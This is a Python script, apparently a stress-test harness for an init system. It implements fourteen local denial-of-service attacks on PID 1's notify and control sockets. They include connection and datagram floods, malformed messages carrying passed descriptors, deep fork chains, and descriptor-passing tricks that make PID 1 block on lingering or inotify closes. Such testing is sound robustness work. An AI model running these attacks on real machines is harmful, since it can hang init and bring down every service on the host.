#!/usr/bin/env python3
"""What nobody should do to PID 1: abuse.py ATTACK ADDRESS [UID], until it is killed. Says "begun" when under way.

ADDRESS is that of a socket, "/path" or "@abstract"; "notify" stands for $NOTIFY_SOCKET. With UID, that user does it.
"""
import array
import ctypes
import itertools
import os
import random
import resource
import signal
import socket
import sys
import time

UNDER_WAY = 2000  # so many times before "begun" is said
MANY = 10000

resource.setrlimit(resource.RLIMIT_NOFILE, (2 * MANY, 2 * MANY))
random.seed(1)


def rounds(under_way=UNDER_WAY):
    for count in itertools.count():
        if count == under_way:
            print("begun", flush=True)
        yield count


def pause():
    print("begun", flush=True)
    while True:
        time.sleep(60)


def rights(descriptors):
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))] if descriptors else []


def datagrams(address, under_way=UNDER_WAY):
    """As many as can be sent, well-formed ones."""
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(address)
    messages = [b"STATUS=" + b"x" * 500, b"WATCHDOG=1", b"READY=1\nMAINPID=1", b"RELOADING=1\nREADY=1", b"FDSTORE=1", b"BARRIER=1"]
    for count in rounds(under_way):
        sender.send(messages[count % len(messages)])


def deep(address):
    """The same from so many generations down that to look for a common ancestor takes a while."""
    for _ in range(140):
        if os.fork():
            signal.pause()
    datagrams(address, 100)


def malformed(address):
    """Of all lengths up to what a socket sends, with and without descriptors."""
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(address)
    null = os.open("/dev/null", os.O_RDONLY)
    for count in rounds():
        length = random.choice([0, 1, 10, 4095, 4096, 4097, 8192, 100000])
        data = bytes(length) if count % 3 == 0 else os.urandom(length) if count % 3 == 1 else b"STATUS=\\" * (length // 8)
        sender.sendmsg([data], rights([null] * random.choice([0, 0, 1, 253])))


def connect(address):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    client.connect(address)
    return client


def ignoring(action, *arguments):
    try:
        action(*arguments)
    except (BrokenPipeError, ConnectionResetError):
        pass  # it has been shown the door already


def connections(address):
    """One after the other, each closed at once."""
    for _ in rounds(MANY):
        connect(address).close()


def crowd(address):
    """Ten thousand at a time, which say nothing."""
    clients = []
    for _ in range(MANY):
        clients.append(connect(address))
    pause()


def callers(address):
    """A few at a time that never say anything; as soon as they are thrown out, there are others."""
    clients = []
    for _ in rounds(100):
        clients.append(connect(address))
        if len(clients) > 50:
            clients.pop(0).close()
        time.sleep(0.001)


def nonsense(address):
    """Requests that are none, several at once, some of them with descriptors."""
    null = os.open("/dev/null", os.O_RDONLY)
    for count in rounds():
        client = connect(address)
        for _ in range(count % 5):
            length = random.choice([0, 1, 4, 64, 65, 1000, 100000])
            ignoring(client.sendmsg, [os.urandom(length)], rights([null] * random.choice([0, 1, 253])))
        client.close()


def deaf(address):
    """They ask again and again, and never read what they are answered."""
    clients = []
    for count in rounds():
        client = connect(address)
        for _ in range(3):
            ignoring(client.send, b"show")
        clients.append(client)
        if len(clients) > 5000:
            clients.pop(0).close()


def waiting(address):
    """A hundred that want it stopped, and wait."""
    clients = []
    for _ in range(100):
        clients.append(connect(address))
        ignoring(clients[-1].send, b"stop")
    pause()


def lingering():
    """A connection whose close waits for a minute: there is more to be sent than anybody takes."""
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.socket(socket.AF_INET)
    client.connect(server.getsockname())
    client.setblocking(False)
    try:
        while True:
            client.send(bytes(65536))
    except BlockingIOError:
        pass
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, array.array("i", [1, 60]).tobytes())
    return server, client


def passes(kind, data):
    def attack(address):
        """PID 1 has the last descriptor of it, and closes that."""
        sender = socket.socket(socket.AF_UNIX, kind)
        sender.connect(address)
        servers = []
        for _ in range(3):
            server, client = lingering()
            servers.append(server)
            try:
                sender.sendmsg([data], rights([client.fileno()]))
            except (BrokenPipeError, ConnectionResetError):
                # It is ours still, and we are not to wait.
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, array.array("i", [1, 0]).tobytes())
            client.close()
        sender.close()
        pause()
    return attack


def watching(count):
    """Descriptors of inotify(7), whose last close waits for the kernel: milliseconds each, and a user may have 128."""
    libc = ctypes.CDLL(None, use_errno=True)
    descriptors = []
    while len(descriptors) < count and (descriptor := libc.inotify_init1(0)) >= 0:
        libc.inotify_add_watch(descriptor, b"/", 0x100)
        descriptors.append(descriptor)
    return descriptors


def sends_slow(kind, data):
    def attack(address):
        """PID 1 has the last descriptor of each, and there are always some on their way."""
        sender = socket.socket(socket.AF_UNIX, kind)
        sender.connect(address)
        for _ in rounds(20):
            descriptors = watching(12)
            if kind == socket.SOCK_SEQPACKET:
                sender = connect(address)
            ignoring(sender.sendmsg, [data], rights(descriptors))
            for descriptor in descriptors:
                os.close(descriptor)
    return attack


ATTACKS = {
    "datagrams": datagrams,
    "deep": deep,
    "malformed": malformed,
    "connections": connections,
    "crowd": crowd,
    "callers": callers,
    "nonsense": nonsense,
    "deaf": deaf,
    "waiting": waiting,
    "lingering-notices": passes(socket.SOCK_DGRAM, b"STATUS=x"),
    "lingering-requests": passes(socket.SOCK_SEQPACKET, b"show"),
    "lingering-nothing": passes(socket.SOCK_SEQPACKET, b""),
    "slow-notices": sends_slow(socket.SOCK_DGRAM, b"STATUS=x"),
    "slow-requests": sends_slow(socket.SOCK_SEQPACKET, b"show"),
}

if len(sys.argv) > 3:
    os.setgroups([])
    os.setgid(int(sys.argv[3]))
    os.setuid(int(sys.argv[3]))
name = os.environ["NOTIFY_SOCKET"] if sys.argv[2] == "notify" else sys.argv[2]
ATTACKS[sys.argv[1]](name.replace("@", "\0", 1))
